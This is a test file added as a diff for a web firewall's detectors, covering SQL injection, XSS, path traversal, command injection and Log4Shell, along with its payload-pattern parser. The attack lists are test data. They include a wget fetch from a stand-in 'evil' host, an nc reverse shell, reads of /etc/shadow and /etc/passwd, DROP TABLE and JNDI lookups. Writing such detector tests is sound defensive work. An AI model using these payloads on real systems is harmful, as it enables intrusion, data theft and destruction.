@@ -1,0 +1,190 @@
+/**
+ * Each web check on its own, with the evasions it must see through and the look-alikes it must
+ * let pass; and the payload pattern file's validation and matcher.
+ */
+import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { FieldKind, HttpFlag } from '../../src/app/http/request.js';
+import { ConfigError } from '../../src/config/config.js';
+import { detectCommandInjection } from '../../src/detect/web/command-injection.js';
+import { detectLog4shell } from '../../src/detect/web/log4shell.js';
+import { detectTraversal } from '../../src/detect/web/path-traversal.js';
+import { loadPatternFile, parsePatterns, PatternMatcher } from '../../src/detect/web/patterns.js';
+import { detectSqli, sqlFingerprint } from '../../src/detect/web/sqli.js';
+import { detectXss } from '../../src/detect/web/xss.js';
+
+function misses(check: (v: string) => unknown, values: readonly string[]): string[] {
+  return values.filter((v) => check(v) === null);
+}
+
+function hits(check: (v: string) => unknown, values: readonly string[]): string[] {
+  return values.filter((v) => check(v) !== null);
+}
+
+describe('SQL injection', () => {
+  it('folds values to token fingerprints', () => {
+    assert.equal(sqlFingerprint("x' OR 1=1 --", 0), 'b' + 's');
+    assert.equal(sqlFingerprint("' OR 1=1 --", 1), '&nonc');
+    assert.equal(sqlFingerprint('1 UNION ALL SELECT NULL,@@version#', 0), 'nUEn,vc');
+    assert.equal(sqlFingerprint('1/**/UNION/*!50000SELECT*/password', 0), 'nUEb');
+    assert.equal(sqlFingerprint('please select your union', 0), 'bEbU');
+    assert.equal(sqlFingerprint('sleep(5) and sleep it off', 0), 'T(n)&bbb');
+  });
+
+  it('finds injections in every context', () => {
+    const attacks = [
+      "' OR 1=1", "' OR 1=1 --", "admin'--", "admin' #", '1 OR 1=1', "1' AND SLEEP(5)#", '-1 UNION SELECT 1,2,3', '1 union all select null,null--',
+      "'; DROP TABLE users; --", '1; DROP TABLE users', 'DROP TABLE users', "') or ('a'='a", "' or ''='", '1 AND 1=2', '1) or (1=1',
+      "' UNION SELECT username, password FROM users--", '1 AND extractvalue(1,concat(0x7e,version()))', 'sleep(5)', "1' ORDER BY 3--", "x' having 1=1--",
+      "'; exec master..xp_cmdshell 'dir'--", "1;waitfor delay '0:0:5'--", '" or ""="', "1'/**/or/**/1=1#", '1 /*!50000union*/ /*!50000select*/ 1,2',
+      "' or 1=1 limit 1 -- -+", '1 or true--', "' || pg_sleep(5)--", '1 and (select 1 from dual)', "'-sleep(5)-'", "' OR 'x'='x",
+      'DELETE FROM users WHERE 1=1', "INSERT INTO users VALUES ('a','b')", 'UPDATE users SET admin=1',
+    ];
+    assert.deepEqual(misses(detectSqli, attacks), []);
+  });
+
+  it('lets text with SQL words through', () => {
+    const benign = [
+      'please select your union', 'select the best union jobs', 'How to DROP TABLE safely', 'DROP TABLE considered harmful', "O'Brien", "it's 1 or 2",
+      "Don't do that; select better tools", "rock 'n' roll", 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
+      'query GetUser($id: ID!) { user(id: $id) { name posts(first: 10) { title } } }', 'red or blue is fine', 'cats or dogs like bones', 'A or B - pick one',
+      'Delete from favorites', 'update profile set', 'the union select committee', "I'd order by phone", '5\'11"', 'yes or no?', 'sleep(8 hours)',
+      'time.sleep(5)', 'run benchmark(s)', 'Tom & Jerry', 'issue #5 - crash', '2024-01-01', 'SELECT name FROM users', "Reviews for 'The Wire' -- great show",
+      'he said "hello" or "bye"', '1 or 2', 'C:\\Program Files (x86)\\App',
+    ];
+    assert.deepEqual(hits(detectSqli, benign), []);
+  });
+
+  it('names the shape it matched', () => {
+    assert.deepEqual(detectSqli("' OR 1=1 --"), { rule: 'boolean after string break', fingerprint: 's&nonc' });
+    assert.deepEqual(detectSqli('-1 UNION SELECT 1,2'), { rule: 'union select', fingerprint: '+nUEn,n' });
+  });
+});
+
+describe('XSS', () => {
+  it('finds script in every form', () => {
+    const attacks = [
+      '<script>alert(1)</script>', '<ScRiPt>alert(1)', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="javascript:alert(1)">x</a>',
+      '<a href="&#106;avascript:alert(1)">', '<a href="java\tscript:alert(1)">', '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
+      'javascript:alert(document.cookie)', '<iframe src="//evil">', '<body onload=alert(1)>', '<div style="width:expression(alert(1))">',
+      '<object data="data:text/html;base64,PHNjcmlwdD4=">',
+    ];
+    assert.deepEqual(misses(detectXss, attacks), []);
+  });
+
+  it('lets harmless markup and prose through', () => {
+    const benign = [
+      '<b>hello</b> <a href="https://example.com/x">me</a>', '<p class="intro">Hi</p>', '<img src="cat.png" alt="a cat">', 'a<b and c>d',
+      'I am online="yes"', 'He said "click here" then x=1', 'See https://example.com/a?b=c', 'time: 10:30', 'use the onload event', 'text/html,*/*',
+    ];
+    assert.deepEqual(hits(detectXss, benign), []);
+  });
+});
+
+describe('path traversal', () => {
+  const arg = (value: string, flags = 0) => ({ kind: FieldKind.QUERY_ARG, name: 'f', value, flags });
+  it('finds climbs, encoded dot-dots and LFI targets', () => {
+    assert.equal(detectTraversal(arg('../../../etc/hosts'), '/'), 'file inclusion target etc/hosts');
+    assert.equal(detectTraversal(arg('../../app/config.yml'), '/'), '2 dot-dot segments');
+    assert.equal(detectTraversal(arg('../secret', HttpFlag.DOUBLE_ENCODED), '/'), 'encoded dot-dot segment');
+    assert.equal(detectTraversal(arg('php://filter/convert.base64-encode/resource=index'), '/'), 'file inclusion target php://filter');
+    assert.equal(detectTraversal(arg('C:\\Windows\\win.ini'), '/'), 'file inclusion target windows/win.ini');
+    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/a/../../b', flags: HttpFlag.PATH_ABOVE_ROOT }, '/b'), 'path climbs above the web root');
+    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/cgi-bin/../etc/passwd', flags: 0 }, '/etc/passwd'), 'file inclusion target etc/passwd');
+  });
+
+  it('lets relative links and ordinary paths through', () => {
+    assert.equal(detectTraversal(arg('../checkout'), '/'), null);
+    assert.equal(detectTraversal(arg('v1.2.3/notes..txt'), '/'), null);
+    assert.equal(detectTraversal({ kind: FieldKind.PATH, name: '', value: '/static/../img/a.png', flags: HttpFlag.DOT_SEGMENTS }, '/img/a.png'), null);
+  });
+});
+
+describe('command injection', () => {
+  it('finds commands after separators and substitutions', () => {
+    const attacks = [
+      '; cat /etc/passwd', '| id', '|id', '127.0.0.1; ls -la', '127.0.0.1 && whoami', '`id`', '$(whoami)', 'x;wget http://evil/x.sh',
+      '() { :; }; /bin/bash -c "id"', ';${IFS}cat${IFS}/etc/passwd', '1|sleep 5', '; /bin/cat /etc/shadow', "a;w'h'oami", '& ping -c 3 10.0.0.1', 'x\nid',
+      '||nc -e /bin/sh 1.2.3.4 4444',
+    ];
+    assert.deepEqual(misses(detectCommandInjection, attacks), []);
+  });
+
+  it('lets separators before ordinary words through', () => {
+    const benign = [
+      'Tom & Jerry', 'dogs; cat lovers', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36', 'R&D; date night',
+      'see you; echo chamber', '$(document).ready(fn)', 'cats | dogs', 'Q&A', 'text/html; charset=utf-8', 'a=1&b=2', 'line one\ncurl is a tool',
+    ];
+    assert.deepEqual(hits(detectCommandInjection, benign), []);
+  });
+});
+
+describe('log4shell', () => {
+  it('resolves nested lookups the way Log4j would', () => {
+    assert.equal(detectLog4shell('${jndi:ldap://evil/a}'), 'jndi lookup ldap://evil/a');
+    assert.equal(detectLog4shell('${${lower:j}ndi:ldap://x/a}'), 'jndi lookup ldap://x/a');
+    assert.equal(detectLog4shell('${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'), 'jndi lookup rmi://x/a');
+    assert.equal(detectLog4shell('${j${env:NaN:-n}di:dns://x}'), 'jndi lookup dns://x');
+    assert.equal(detectLog4shell('${${upper:J}NDI:ldap://x}'), 'jndi lookup ldap://x');
+    assert.equal(detectLog4shell('${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}'), 'jndi lookup ldap://x/a');
+    assert.equal(detectLog4shell("a ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}"), 'jndi lookup ldap://x/a');
+    assert.equal(detectLog4shell('${jNdI:ldap://x'), 'jndi lookup ldap://x');
+  });
+
+  it('lets template placeholders through', () => {
+    assert.deepEqual(hits(detectLog4shell, ['${name}', 'Hello ${user.name}!', '{"a":"${x}"}', 'price $5 {x}', '${'.repeat(100)]), []);
+  });
+});
+
+describe('payload pattern file', () => {
+  function tryParse(doc: unknown): string {
+    try {
+      parsePatterns(doc, 'p.json');
+      return 'ok';
+    } catch (err) {
+      assert.ok(err instanceof ConfigError);
+      return err.message;
+    }
+  }
+
+  it("accepts the seeds' plain list and objects with options", () => {
+    const list = parsePatterns([' OR 1=1', '<script>'], 'p.json');
+    assert.deepEqual(list.map((p) => [p.pattern, p.attackType, p.severity, p.where.size]), [[' OR 1=1', 'payload_pattern', 2, 9], ['<script>', 'payload_pattern', 2, 9]]);
+    const obj = parsePatterns({ patterns: [{ pattern: 'etc/passwd', attack_type: 'lfi', severity: 1, where: ['query'] }] }, 'p.json');
+    assert.deepEqual(obj.map((p) => [p.pattern, p.attackType, p.severity, [...p.where]]), [['etc/passwd', 'lfi', 1, ['query']]]);
+  });
+
+  it('names the file and the entry of every mistake', () => {
+    assert.equal(tryParse({ nope: 1 }), 'p.json: payload pattern file: expected a JSON list of patterns, or {"patterns": [...]}');
+    assert.equal(tryParse(['ok', '']), 'p.json: payload pattern file: entry 1: empty pattern');
+    assert.equal(tryParse([{ pattern: 'x', severity: 5 }]), 'p.json: payload pattern file: entry 0: "severity" must be 1, 2 or 3');
+    assert.equal(tryParse([{ pattern: 'x', where: ['body', 'nowhere'] }]), 'p.json: payload pattern file: entry 0: "where" has "nowhere"; expected one of path, query, arg_name, header, cookie, body, json, multipart, filename');
+    assert.equal(tryParse([{ pattern: 'x', colour: 'red' }]), 'p.json: payload pattern file: entry 0: unknown key "colour" (expected pattern, attack_type, msg, severity, where)');
+    assert.equal(tryParse([{ pattern: 'x', attack_type: 'Bad Type' }]), 'p.json: payload pattern file: entry 0: "attack_type" must be a snake_case name');
+  });
+
+  it('reports a file that is missing or not JSON (the seed PoC file is not)', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'rampart-patterns-'));
+    try {
+      const file = join(dir, 'payload_patterns.json');
+      writeFileSync(file, '[{" OR 1=1", "<script>", "DROP TABLE"}]');
+      assert.throws(() => loadPatternFile(file), (err: Error) => err instanceof ConfigError && err.message.startsWith(`${file}: payload pattern file: not valid JSON`));
+      assert.throws(() => loadPatternFile(join(dir, 'none.json')), (err: Error) => err instanceof ConfigError && err.message === `${join(dir, 'none.json')}: payload pattern file: cannot read it (ENOENT)`);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('finds every pattern in one pass, case-insensitively, overlapping ones included', () => {
+    const m = new PatternMatcher(['he', 'she', 'hers', 'DROP TABLE']);
+    const found: number[] = [];
+    m.find('uSHErs; drop table x', (k) => (found.push(k), false));
+    assert.deepEqual(found, [1, 0, 2, 3]);
+    assert.equal(m.find('nothing here', () => true), 0);
+    assert.equal(m.find('abc', () => true), -1);
+  });
+});
